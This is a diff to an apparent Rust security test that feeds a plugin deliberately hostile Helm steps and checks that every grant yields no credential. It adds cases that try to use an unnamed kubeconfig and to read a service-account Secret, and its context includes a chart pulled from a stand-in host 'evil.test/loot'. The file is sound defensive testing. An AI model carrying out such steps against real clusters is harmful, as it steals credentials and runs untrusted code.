@@ -137,11 +137,16 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
         // a look at what runs there.
         {"do": "helmEnsure", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "chart": "oci://evil.test/loot"},
         {"do": "helmStatus", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "release": "cilium"},
+        // 18-19: a Helm step through a kubeconfig the object does not name; values from a Secret it does not name
+        // (through a kubeconfig it does).
+        {"do": "helmStart", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}},
+        {"do": "helmObserve", "kubeconfig": {"name": "app-config", "key": "password"},
+            "valuesSecret": "omni-service-account"},
     ]);
     env.apply(&release("h", "app-config", attacks)).await;
     let obj = env
         .wait("OmniHelmRelease", "h", "the attacks' report", |o| {
-            results(o).len() == 18
+            results(o).len() == 20
         })
         .await;
     let r = results(&obj);
